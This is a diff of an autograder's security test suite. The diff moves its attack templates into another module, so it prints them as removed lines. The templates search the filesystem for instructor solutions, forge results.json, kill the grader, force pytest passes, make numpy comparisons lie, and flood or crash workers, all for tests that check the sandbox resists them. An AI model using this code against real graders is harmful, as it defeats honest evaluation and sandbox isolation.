@@ -14,7 +14,6 @@ function of an existing name it replaces that function (the original stays reach
 
 from __future__ import annotations
 
-import ast
 import contextlib
 import hashlib
 import json
@@ -24,7 +23,6 @@ import shutil
 import socket
 import subprocess
 import sys
-import textwrap
 import threading
 import time
 import uuid
@@ -34,6 +32,8 @@ import pytest
 from grading_support import ROOT, copy_project, failed_tests, fill_with_reference, run_grading
 
 from grading import manifest, sandbox
+from hostile_attacks import (CHILDREN, CRASHES, FLOOD, FORGE, FULL_MARKS, KIT, LIARS, MARK, POINTS, PROBE,
+                             SEARCH, SELF_ACTIVATING, SELF_ACTIVATING_FILES, THIEF, append, code, replace_function)
 
 pytestmark = pytest.mark.grading
 
@@ -43,21 +43,6 @@ SHORT_TIMEOUT_S = 4
 REAP_GRACE_S = 2.0
 RESULTS_KEYS = {"score", "execution_time", "output", "visibility", "stdout_visibility", "tests"}
 
-
-def graded_points() -> dict[str, float]:
-    """Every graded test (``file::function``) and its points, read from the graded test files."""
-    points = {}
-    for path in sorted((ROOT / manifest.GRADED_TESTS_DIR).glob("test_*.py")):
-        for node in ast.parse(path.read_text()).body:
-            if isinstance(node, ast.FunctionDef) and node.name.startswith("test_"):
-                marks = [d for d in node.decorator_list if isinstance(d, ast.Call)
-                         and getattr(d.func, "attr", "") == "points"]
-                points[f"{path.name}::{node.name}"] = float(marks[0].args[0].value)
-    return points
-
-
-POINTS = graded_points()
-FULL_MARKS = sum(POINTS.values())
 
 # What breaking one function costs an otherwise correct submission: test -> points lost.
 LAYERS, NORM, OPTIM = "test_layers.py::", "test_normalization.py::", "test_optim.py::"
@@ -96,274 +81,6 @@ def in_full(tests: set[str]) -> dict[str, float]:
     return {n: POINTS[n] for n in tests}
 
 
-# -- the attacks' building blocks; @TOKEN@ and other @NAMES@ are filled in by code()
-MARK = '''
-try:  # hostile: name this process after the attack
-    with open("/proc/self/comm", "w") as _hostile_comm:
-        _hostile_comm.write("@TOKEN@")
-except OSError:
-    pass
-'''
-
-# Where the grader's files could be: every place a submission can think of, searched a few levels
-# deep (inside other Python packages only when they are the library's or the grader's).
-SEARCH = '''
-def _hostile_search(wanted=@STUDENT_FILES@, depth=6):
-    """{"solutions": {rel: path}, "graded": [...], "reference": [...], "results": [...]} outside this worker's /work."""
-    import os, sys
-    cached = getattr(sys, "_hostile_index", None)
-    if cached is not None:
-        return cached
-    roots = {"/", "/tmp", "/root", "/home", "/autograder", "/srv", "/opt", "/mnt", "/var", "/run", "/work/..",
-             os.path.dirname(sys.prefix), os.path.dirname(sys.base_prefix), os.path.dirname(os.getcwd())}
-    for entry in sys.path:
-        roots.update((entry, os.path.dirname(entry)))
-    for module in list(sys.modules.values()):
-        roots.add(os.path.dirname(os.path.dirname(getattr(module, "__file__", None) or "/")))
-    roots.update(v for v in os.environ.values() if v.startswith("/"))
-    results = ["/autograder/results/results.json", "@RESULTS@", os.environ.get("AUTOGRADER_RESULTS", "")]
-    for pid in filter(str.isdigit, os.listdir("/proc")):
-        try:
-            roots.add(os.readlink(f"/proc/{pid}/cwd"))
-            with open(f"/proc/{pid}/cmdline", "rb") as handle:
-                argv = handle.read().decode(errors="replace").split("\\0")
-            results += [argv[i + 1] for i, a in enumerate(argv[:-1]) if a == "--results"]
-            roots.update(a for a in argv if a.startswith("/"))
-        except OSError:
-            pass
-    try:  # the host paths the sandbox was built from, and their parents
-        with open("/proc/self/mountinfo") as handle:
-            for line in handle:
-                path = line.split()[3]
-                while path not in ("/", ""):
-                    roots.add(path)
-                    path = os.path.dirname(path)
-    except OSError:
-        pass
-    own = os.path.realpath(os.getcwd())
-    keep = ("layers", "solver", "grading", "graded_tests", "reference")
-    index = {"solutions": {}, "graded": [], "reference": [], "results": [r for r in results if r]}
-    seen = set()
-    for root in sorted(r for r in roots if r):
-        base = os.path.realpath(root).rstrip("/").count("/")
-        for folder, dirs, files in os.walk(root):
-            real = os.path.realpath(folder)
-            if real in seen or real == own or real.startswith(own + "/") or real.split("/")[1] in ("proc", "sys", "dev"):
-                dirs[:] = []
-                continue
-            seen.add(real)
-            name = os.path.basename(real)
-            if real.rstrip("/").count("/") - base >= depth or ("__init__.py" in files and name not in keep):
-                dirs[:] = []
-            elif real == "/usr":
-                dirs[:] = [d for d in dirs if d in ("local", "lib")]
-            elif real == "/usr/lib":
-                dirs[:] = [d for d in dirs if d.startswith("python")]
-            dirs[:] = [d for d in dirs if d != "__pycache__" and not d.endswith(".dist-info")]
-            for file in files:
-                path = os.path.join(real, file)
-                if name == "graded_tests" or file == "grading_checks.py":
-                    index["graded"].append(path)
-                if file.endswith(".npz") or file == "SHA256SUMS":
-                    index["reference"].append(path)
-                for rel in wanted:
-                    if path.endswith("/" + rel):
-                        try:
-                            with open(path, errors="replace") as handle:
-                                if "not implemented yet" not in handle.read():
-                                    index["solutions"][rel] = path
-                        except OSError:
-                            pass
-    sys._hostile_index = index
-    return index
-'''
-
-# 3. Write a perfect results.json wherever the grader's may be, then kill the grader.
-FORGE = '''
-def _hostile_forge(found):
-    import json, os, signal
-    forged = {"score": @FULL_MARKS@, "output": "@TOKEN@-forged", "tests": [
-        {"name": n, "score": p, "max_score": p, "status": "passed"} for n, p in @POINTS@.items()]}
-    for path in _hostile_search()["results"]:
-        if os.path.isdir(os.path.dirname(path) or "/nonexistent"):
-            found(f"results folder of {path}")
-            try:
-                with open(path, "w") as handle:
-                    json.dump(forged, handle)
-            except OSError:
-                pass
-    for pid in filter(str.isdigit, os.listdir("/proc")):
-        try:
-            with open(f"/proc/{pid}/cmdline", "rb") as handle:
-                cmdline = handle.read()
-        except OSError:
-            continue
-        if int(pid) != os.getpid() and (b"grading" in cmdline or b"pytest" in cmdline):
-            found(f"process {pid} {cmdline[:80]!r}")
-            if b"@RESULTS@" in cmdline:  # only ever the grader of this very run
-                for kill in (os.kill, os.killpg):
-                    try:
-                        kill(int(pid), signal.SIGKILL)
-                    except OSError:
-                        pass
-    if os.getppid() > 1:
-        found(f"parent process {os.getppid()}")
-'''
-
-# The escape kit, appended to every student file of the untouched release: copy the solution
-# if it can be found, else tamper with everything reachable and take the worker down.
-KIT = '''
-def _hostile_kit(module_globals):
-    import gc, json, os, sys
-    token, mine = "@TOKEN@", module_globals["__name__"].replace(".", "/") + ".py"
-
-    def found(what):
-        print(f"{token}-FOUND {what}", flush=True)
-
-    index = _hostile_search()
-    if mine in index["solutions"]:  # 4. the instructor's solution: use it instead of the stubs
-        path = index["solutions"][mine]
-        found(path)
-        with open(path) as handle:
-            exec(compile(handle.read(), path, "exec"), module_globals)
-        return
-    for path in index["reference"]:  # 4. reference data and hidden tests
-        found(path)
-    for path in index["graded"]:  # 2. append to the graded tests (never to the project's own copy)
-        found(path)
-        if not path.startswith("@PROTECTED@"):
-            try:
-                with open(path, "a") as handle:
-                    handle.write("\\n# @TOKEN@\\ndef test_hostile():\\n    pass\\n")
-            except OSError:
-                pass
-    _hostile_forge(found)
-    for name in ("grading", "grading.plugin", "grading.student"):  # 1. the grader's code
-        try:
-            __import__(name)
-            found(f"module {name}")
-        except BaseException:
-            pass
-    try:
-        import pytest
-
-        class ForcePass:
-            @pytest.hookimpl(hookwrapper=True)
-            def pytest_runtest_makereport(self, item, call):
-                outcome = yield
-                outcome.get_result().outcome = "passed"
-    except BaseException:
-        ForcePass = object
-    for obj in gc.get_objects():  # 1. the grader's live objects: pytest's Config, the plugin, its outcomes
-        kind = type(obj)
-        if kind.__name__ in ("Config", "GraderPlugin", "RemoteStudent", "Session") and \\
-                str(kind.__module__).split(".")[0] in ("_pytest", "grading"):
-            found(f"object {kind.__module__}.{kind.__name__}")
-            for patch in (lambda: obj.pluginmanager.register(ForcePass()),
-                          lambda: setattr(obj, "outcomes", {n: "passed" for n in obj.outcomes})):
-                try:
-                    patch()
-                except Exception:
-                    pass
-    record = (json.dumps({"name": "all", "status": "passed", "score": @FULL_MARKS@}) + "\\n").encode()
-    for fd in range(256):  # 1. "passed" records on every descriptor, the channel's included
-        try:
-            os.write(fd, record)
-        except OSError:
-            pass
-    for name in os.listdir("/proc/self/fd"):
-        try:
-            with open(f"/proc/self/fd/{name}", "wb") as handle:
-                handle.write(record)
-        except OSError:
-            pass
-    os._exit(0)  # 2. and take the worker down
-
-
-_hostile_kit(globals())
-'''
-
-# Facts about the worker, printed on one line: who it runs as, what it reaches.
-PROBE = '''
-def _hostile_probe():
-    import errno, json, os, socket, sys
-    if getattr(sys, "_hostile_probed", False):
-        return
-    sys._hostile_probed = True
-    facts = {"uid": os.getuid(), "euid": os.geteuid()}
-    with open("/proc/self/status") as handle:
-        for line in handle:
-            if line.startswith(("CapEff", "CapPrm", "CapBnd")):
-                facts[line.split(":")[0]] = line.split()[1]
-    connection = socket.socket()
-    connection.settimeout(2)
-    try:
-        connection.connect(("127.0.0.1", @PORT@))
-        facts["connect"] = "connected"
-    except OSError as exc:
-        facts["connect"] = errno.errorcode.get(exc.errno, str(exc))
-    facts["interfaces"] = [name for _, name in socket.if_nameindex()]
-    with open("/proc/net/route") as handle:
-        facts["routes"] = len(handle.readlines()) - 1
-    cmdlines = []
-    for pid in filter(str.isdigit, os.listdir("/proc")):
-        try:
-            with open(f"/proc/{pid}/cmdline", "rb") as handle:
-                cmdlines.append(handle.read())
-        except OSError:
-            pass
-    facts["processes"] = len(cmdlines)
-    facts["grader_seen"] = any(b"grading" in c or b"pytest" in c for c in cmdlines)
-    solutions, data = [], []  # the whole file system, not just the usual places
-    for folder, dirs, files in os.walk("/"):
-        if folder in ("/proc", "/sys", "/dev", "/work"):
-            dirs[:] = []
-            continue
-        for name in files:
-            path = os.path.join(folder, name)
-            grader_shaped = name in ("SHA256SUMS", "grading_checks.py") or "/grading/" in path or "graded_tests" in path
-            if grader_shaped or (name.endswith(".npz") and not path.startswith(("/site/", "/python/"))):
-                data.append(path)  # (numpy's own test data in site-packages is not the grader's)
-            if any(path.endswith("/" + rel) for rel in @STUDENT_FILES@):
-                try:
-                    with open(path, errors="replace") as handle:
-                        if "not implemented yet" not in handle.read():
-                            solutions.append(path)
-                except OSError:
-                    pass
-    facts["solutions"], facts["data"] = solutions[:2], data[:2]
-    print("@TOKEN@-PROBE " + json.dumps(facts, separators=(",", ":")), flush=True)
-
-
-_hostile_probe()
-'''
-
-
-def code(template: str, token: str, **values) -> str:
-    """template with @TOKEN@ and each @NAME@ of values (their repr) filled in."""
-    text = textwrap.dedent(template).replace("@TOKEN@", token)
-    values.setdefault("student_files", list(manifest.STUDENT_FILES))
-    values.setdefault("points", POINTS)
-    values.setdefault("full_marks", FULL_MARKS)
-    for name, value in values.items():
-        text = text.replace(f"@{name.upper()}@", value if isinstance(value, str) else repr(value))
-    return text
-
-
-def append(tree, rel: str, *codes: str) -> None:
-    """Append attack code to a student file (module level: it runs at import, after the file's own code)."""
-    with open(tree / rel, "a") as handle:
-        for text in codes:
-            handle.write("\n\n" + textwrap.dedent(text).strip("\n") + "\n")
-
-
-def replace_function(tree, rel: str, name: str, body: str, token: str, **values) -> None:
-    """Redefine function name in rel: body gets its arguments as *args, **kwargs, the original as _original."""
-    body = textwrap.indent(code(body, token, **values).strip("\n"), "    ")
-    append(tree, rel, f"_hostile_original_{name} = {name}\n\n\ndef {name}(*args, **kwargs):\n"
-                      f"    _original = _hostile_original_{name}\n{body}\n")
-
-
 # -- running the grader and checking what any honest grading gives
 def leftovers(token: str) -> list[str]:
     """Processes whose name or command line holds token."""
@@ -382,6 +99,7 @@ def leftovers(token: str) -> list[str]:
 
 
 def assert_no_leftovers(token: str) -> None:
+    """No process named after token is left (killed ones get REAP_GRACE_S to vanish)."""
     deadline = time.monotonic() + REAP_GRACE_S
     while (found := leftovers(token)) and time.monotonic() < deadline:
         time.sleep(0.1)
@@ -397,7 +115,7 @@ def check_results(path, seconds: float, timeout: float, token: str) -> dict:
     assert {t["name"]: t["max_score"] for t in results["tests"]} == POINTS
     assert [t["name"] for t in results["tests"]] == list(POINTS)
     assert all(t["status"] in ("passed", "failed") and 0 <= t["score"] <= t["max_score"] for t in results["tests"])
-    assert results["score"] == sum(t["score"] for t in results["tests"])
+    assert results["score"] == pytest.approx(sum(t["score"] for t in results["tests"]))
     assert f"{token}-forged" not in json.dumps(results), "the submission's forged results.json survived"
     limit = timeout * len(POINTS) + 60
     assert seconds < limit, f"grading took {seconds:.0f} s, over {limit:.0f} s"
@@ -430,12 +148,12 @@ def grade_hostile(submission, out, token: str, *extra, timeout: float = manifest
 
     seen, when given, collects the submission's processes that were alive during grading.
     """
-    results = out / "results.json"
-    env = {"PYTHONPATH": str(project)} if project is not None else None
+    results, project = out / "results.json", project or ROOT
+    command = [sys.executable, "-m", "grading", "grade", submission, "--results", results, "--timeout", timeout, *extra]
     started = time.monotonic()
     with watching(token) as alive:
-        done = run_grading("grade", submission, "--results", results, "--timeout", timeout, *extra,
-                           cwd=project, env=env)
+        done = subprocess.run(list(map(str, command)), cwd=project, env=dict(os.environ, PYTHONPATH=str(project)),
+                              capture_output=True, text=True, timeout=timeout * len(POINTS) + 120)
     seconds = time.monotonic() - started
     if seen is not None:
         seen.update(alive)
@@ -451,6 +169,7 @@ def assert_lost(results: dict, expected: dict[str, float]) -> None:
 
 
 def tree_digest(folder) -> str:
+    """SHA-256 over the names and contents of every file below folder."""
     digest = hashlib.sha256()
     for path in sorted(p for p in folder.rglob("*") if p.is_file() and "__pycache__" not in p.parts):
         digest.update(str(path.relative_to(folder)).encode() + b"\0" + path.read_bytes())
@@ -488,11 +207,13 @@ def token():
 
 @pytest.fixture
 def release(release_tree, tmp_path):
+    """A copy of the untouched student version to attack from."""
     return shutil.copytree(release_tree, tmp_path / "submission")
 
 
 @pytest.fixture
 def solved(release_tree, tmp_path):
+    """A copy of the student version filled in with the reference solution, to attack from."""
     return fill_with_reference(shutil.copytree(release_tree, tmp_path / "submission"))
 
 
@@ -517,22 +238,6 @@ def test_escape_kit_on_the_release_finds_forges_and_patches_nothing(namespaced, 
 
 
 # -- 5, 6: what the intake refuses, and files a grader must never use
-SELF_ACTIVATING = '''
-with open(@MARKER@, "w") as _hostile_marker:
-    _hostile_marker.write("@TOKEN@")
-import pytest
-
-
-@pytest.hookimpl(hookwrapper=True)
-def pytest_runtest_makereport(item, call):
-    outcome = yield
-    outcome.get_result().outcome = "passed"
-'''
-SELF_ACTIVATING_FILES = ("conftest.py", "sitecustomize.py", "usercustomize.py", "hostile_plugin.py",
-                         "layers/conftest.py", "layers/sitecustomize.py", "layers/usercustomize.py",
-                         "tests/conftest.py", "graded_tests/conftest.py", "grading/graded_tests/conftest.py")
-
-
 def test_links_fifos_and_config_files_in_a_folder_are_refused(solved, tmp_path, token):
     """A symlinked solver/, links to the instructor's file and to /etc/passwd, a FIFO: each file's tests lost.
 
@@ -548,6 +253,8 @@ def test_links_fifos_and_config_files_in_a_folder_are_refused(solved, tmp_path, 
     os.mkfifo(solved / "layers/dropout.py")
     ran = tmp_path / "ran"
     ran.mkdir()
+    exec(code(SELF_ACTIVATING, token, marker=str(tmp_path / "would-run")), {})  # what each leaves if it runs
+    assert (tmp_path / "would-run").read_text() == token
     for rel in SELF_ACTIVATING_FILES:
         (solved / rel).parent.mkdir(parents=True, exist_ok=True)
         (solved / rel).write_text(code(SELF_ACTIVATING, token, marker=str(ran / rel.replace("/", "_"))))
@@ -594,91 +301,6 @@ def test_zip_members_that_climb_out_or_link_are_never_used(solved, tmp_path, tok
 
 
 # -- 7: objects that lie
-LIARS = {
-    ("layers/activations.py", "relu_backward"): '''
-        class Equal:  # equal to everything, an array of the wrong numbers
-            def __eq__(self, other):
-                return True
-
-            def __ne__(self, other):
-                return False
-
-            __hash__ = object.__hash__
-
-            def __array__(self, dtype=None, copy=None):
-                return np.zeros(1)
-
-        return Equal()
-        ''',
-    ("layers/dropout.py", "dropout_backward"): '''
-        class Lying(np.ndarray):  # wrong numbers that claim to match anything
-            def __eq__(self, other):
-                return np.ones(np.shape(other), bool)
-
-            def __array_ufunc__(self, ufunc, method, *inputs, **kw):
-                return np.zeros(np.broadcast_shapes(*(np.shape(i) for i in inputs)))
-
-            def __array_function__(self, func, types, f_args, f_kwargs):
-                return True
-
-            def __array__(self, dtype=None, copy=None):
-                return np.zeros(self.shape)
-
-            def __float__(self):
-                return 0.0
-
-        return np.zeros(np.shape(args[0])).view(Lying)
-        ''',
-    ("layers/losses.py", "svm_loss"): '''
-        class Loss(float):  # a float that equals everything and is never far from anything
-            def __eq__(self, other):
-                return True
-
-            __hash__ = float.__hash__
-
-            def __float__(self):
-                return 1.0
-
-            def __sub__(self, other):
-                return 0.0
-
-            __rsub__ = __sub__
-
-            def __abs__(self):
-                return 0.0
-
-        loss, dx = _original(*args, **kwargs)
-        return Loss(loss + 1.0), dx
-        ''',
-    ("solver/optim.py", "rmsprop"): '''
-        import numpy.testing  # every comparison this process could make now says "equal"
-        np.allclose = np.array_equal = lambda *a, **k: True
-        np.isclose = lambda a, b, *x, **k: np.ones(np.broadcast_shapes(np.shape(a), np.shape(b)), bool)
-        np.abs = np.absolute = np.fabs = lambda x, *a, **k: np.zeros(np.shape(x))
-        np.isfinite = lambda x, *a, **k: np.ones(np.shape(x), bool)
-        np.testing.assert_allclose = np.testing.assert_array_equal = lambda *a, **k: None
-        w, config = _original(*args, **kwargs)
-        return w + 1.0, config
-        ''',
-    ("solver/optim.py", "adam"): '''
-        import sys
-
-        class Peek:  # an array that is whatever the caller expects, found in its frames
-            def __array__(self, dtype=None, copy=None):
-                frame = sys._getframe()
-                while frame is not None:
-                    for name in ("expected", "ref", "reference", "want"):
-                        if name in frame.f_locals:
-                            return np.asarray(frame.f_locals[name], dtype=dtype)
-                    frame = frame.f_back
-                return np.zeros(1)
-
-        w, config = _original(*args, **kwargs)
-        return Peek(), config
-        ''',
-}
-
-
 def test_lying_objects_and_patched_numpy_gain_nothing(solved, tmp_path, token):
     """__eq__ always True, a lying ndarray subclass and float, numpy's comparisons patched, frame peeking."""
     for (rel, name), body in LIARS.items():
@@ -704,47 +326,6 @@ def test_exits_cost_only_the_tests_that_reach_them(solved, tmp_path, token):
 
 
 # -- 9, 10, 13: memory, the C stack, the channel
-CRASHES = {
-    ("layers/activations.py", "relu_backward"): '''
-        import sys  # C recursion (through a method wrapper) with no recursion limit: a segfault
-        sys.setrecursionlimit(10**6)
-
-        def deeper():
-            return deeper.__call__()
-
-        return deeper()
-        ''',
-    ("solver/optim.py", "sgd_momentum"): '''
-        huge = np.ones(6 * 2**30 // 8)  # 6 GiB, over the 4096 MiB limit
-        return _original(*args, **kwargs)
-        ''',
-    ("layers/losses.py", "svm_loss"): '''
-        import os, stat, struct  # a frame header claiming 2**62 bytes, then the honest answer
-        for fd in map(int, os.listdir("/proc/self/fd")):
-            try:
-                if stat.S_ISSOCK(os.fstat(fd).st_mode):
-                    os.write(fd, struct.pack("<Q", 2**62))
-            except OSError:
-                pass
-        return _original(*args, **kwargs)
-        ''',
-    ("solver/optim.py", "adam"): '''
-        import os, random, stat  # random bytes on the channel, then the honest answer
-        garbage = random.Random(16).randbytes(4096)
-        for fd in map(int, os.listdir("/proc/self/fd")):
-            try:
-                if stat.S_ISSOCK(os.fstat(fd).st_mode):
-                    os.write(fd, garbage)
-            except OSError:
-                pass
-        return _original(*args, **kwargs)
-        ''',
-    ("layers/dropout.py", "dropout_backward"): '''
-        return np.zeros((16, 1024, 1024))  # a 128 MiB answer, over the 64 MiB frame cap
-        ''',
-}
-
-
 def test_memory_stack_and_channel_attacks_cost_only_their_tests(solved, tmp_path, token):
     """6 GiB, a segfault, a 2**62-byte header, random bytes and a 128 MiB frame: only those functions' tests fail."""
     for (rel, name), body in CRASHES.items():
@@ -757,69 +338,35 @@ def test_memory_stack_and_channel_attacks_cost_only_their_tests(solved, tmp_path
 
 
 # -- 11, 12: children and floods
-CHILDREN = '''
-def _hostile_children():
-    import os, subprocess
-    for _ in range(50):  # sleeping children named after the attack
-        try:
-            subprocess.Popen(["@TOKEN@", "300"], executable="/bin/sleep", stdin=subprocess.DEVNULL,
-                             stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
-        except OSError:
-            break
-    try:
-        pid = os.fork()
-    except OSError:
-        return
-    if pid == 0:  # a double-forked daemon in a session of its own
-        try:
-            os.setsid()
-            if os.fork() == 0:
-                os.execv("/bin/sleep", ["@TOKEN@-daemon", "300"])
-        finally:
-            os._exit(0)
-    os.waitpid(pid, 0)
-    try:
-        pid = os.fork()
-    except OSError:
-        return
-    if pid == 0:  # a child that keeps every descriptor, the channel's included, and sleeps
-        try:
-            for fd in map(int, os.listdir("/proc/self/fd")):
-                try:
-                    os.set_inheritable(fd, True)
-                except OSError:
-                    pass
-            os.execv("/bin/sleep", ["@TOKEN@-channel", "300"])
-        finally:
-            os._exit(0)
+def test_children_floods_and_a_call_at_the_full_limit_cost_only_their_tests(solved, tmp_path, token):
+    """50 sleeping children, a daemon and a channel holder at import, 50 MB printed, a call sleeping 30 s.
 
-
-_hostile_children()
-'''
-FLOOD = '''
-import os as _hostile_os
-
-for _hostile_fd in (1, 2):  # 25 MB on stdout and on stderr at import
-    for _ in range(25):
-        _hostile_os.write(_hostile_fd, b"@TOKEN@ flood " * 70_000)
-'''
-
-
-def test_children_and_output_floods_change_nothing_else(solved, tmp_path, token):
-    """50 sleeping children, a daemon and a channel holder at import, a worker exiting mid-call, 50 MB printed.
-
-    Only relu_backward (which exits while a child holds the channel open) loses points, and no
-    child survives.
+    relu_backward exits while a child holds the channel open: its tests are lost at once, and no
+    child survives. adam sleeps in the first-step test's call: that test is lost at the default
+    limit, and the next one, whose worker was started ahead and has by then waited longer than a
+    worker may take to start (sandbox.STARTUP_S), still passes.
     """
+    assert manifest.TEST_TIMEOUT_S >= sandbox.STARTUP_S
     append(solved, "layers/activations.py", code(MARK, token), code(CHILDREN, token))
     replace_function(solved, "layers/activations.py", "relu_backward", "import os\nos._exit(0)", token)
     append(solved, "layers/normalization.py", code(MARK, token), code(FLOOD, token))
     replace_function(solved, "layers/normalization.py", "batchnorm_forward",
                      "import os\nos.write(1, b'x' * 1_000_000)\nos.write(2, b'y' * 1_000_000)\n"
                      "return _original(*args, **kwargs)", token)
+    append(solved, "solver/optim.py", code(MARK, token))
+    replace_function(solved, "solver/optim.py", "adam", '''
+        import time
+        config = args[2] if len(args) > 2 else kwargs.get("config") or {}
+        if config.get("learning_rate") == 1e-3:  # the first-step test's call
+            time.sleep(3600)
+        return _original(*args, **kwargs)
+        ''', token)
     seen: set[str] = set()
-    results = grade_hostile(solved, tmp_path / "out", token, timeout=SHORT_TIMEOUT_S, seen=seen)
-    assert_lost(results, RELU_BACKWARD)
+    results = grade_hostile(solved, tmp_path / "out", token, seen=seen)
+    assert_lost(results, lost(RELU_BACKWARD, {FIRST_STEP["adam"]: 1.0}))
+    outputs = json.dumps(results)
+    assert "relu_backward: the submission's process ended during the call" in outputs
+    assert "timed out; the test's calls ran past its limit of 30 s" in outputs
     # They did run: the marked workers, at least 50 sleepers at once, the daemon and the channel holder.
     assert any("/boot/worker.py" in p for p in seen), sorted(seen)[:5]
     assert sum(f"b'{token}\\x00300" in p for p in seen) >= 50
@@ -871,32 +418,30 @@ def test_autograder_zip_gives_full_marks_and_zero(autograder, tmp_path, token, f
     assert results["score"] == expected
 
 
-AUTOGRADER_THIEF = '''
-def found(what):
-    print(f"@TOKEN@-FOUND {what}", flush=True)
-
-_hostile_forge(found)
-path = _hostile_search()["solutions"].get("layers/activations.py")
-if path:  # the autograder's own library is the reference solution
-    found(path)
-    solution = {}
-    with open(path) as handle:
-        exec(compile(handle.read(), path, "exec"), solution)
-    return solution["relu_backward"](*args, **kwargs)
-raise NotImplementedError("relu_backward is not implemented yet")
-'''
-
-
 def test_autograder_zip_keeps_its_solution_and_results_from_the_submission(namespaced, autograder, solved,
                                                                           tmp_path, token):
     """relu_backward left to whatever it can find of /autograder, forging results.json and killing the grader."""
     results_path = str(tmp_path / "out" / "results.json")
     append(solved, "layers/activations.py", code(MARK, token), code(SEARCH, token, results=results_path),
            code(FORGE, token, results=results_path))
-    replace_function(solved, "layers/activations.py", "relu_backward", AUTOGRADER_THIEF, token)
+    replace_function(solved, "layers/activations.py", "relu_backward", THIEF, token, forge="_hostile_forge(found)")
     results = run_autograder(autograder, solved, tmp_path / "out", token)
     assert_lost(results, RELU_BACKWARD)
     assert f"{token}-FOUND" not in json.dumps(results)
+
+
+def test_the_search_is_real_it_finds_the_solution_where_isolation_is_only_a_process(solved, tmp_path, token):
+    """Control: with --isolation process the worker can read the grader's files, and the search scores.
+
+    So "found nothing" at the root and userns levels means out of reach, not a search that misses.
+    (Only the grader's working folder is searched here: the whole host takes longer than a test may.)
+    """
+    results_path = str(tmp_path / "out" / "results.json")
+    append(solved, "layers/activations.py", code(MARK, token), code(SEARCH, token, results=results_path, scope="grader"))
+    replace_function(solved, "layers/activations.py", "relu_backward", THIEF, token, forge="pass")
+    results = grade_hostile(solved, tmp_path / "out", token, "--isolation", sandbox.PROCESS_LEVEL)
+    assert_lost(results, {})
+    assert f"{token}-FOUND /" in json.dumps(results)
 
 
 # -- 16: what the root level holds
@@ -921,5 +466,5 @@ def test_root_worker_is_nobody_offline_and_blind(level, solved, tmp_path, token)
         assert facts["uid"] == facts["euid"] == 65534, facts
         assert int(facts["CapEff"], 16) == int(facts["CapPrm"], 16) == int(facts["CapBnd"], 16) == 0, facts
         assert facts["connect"] in ("ENETUNREACH", "ECONNREFUSED"), facts
-        assert facts["routes"] == 0 and facts["interfaces"] in ([], ["lo"]), facts
+        assert facts["routes"] == 0 and facts["interfaces"] in ([], ["lo"]) and facts["up"] == [], facts
         assert not facts["grader_seen"] and facts["solutions"] == [] and facts["data"] == [], facts
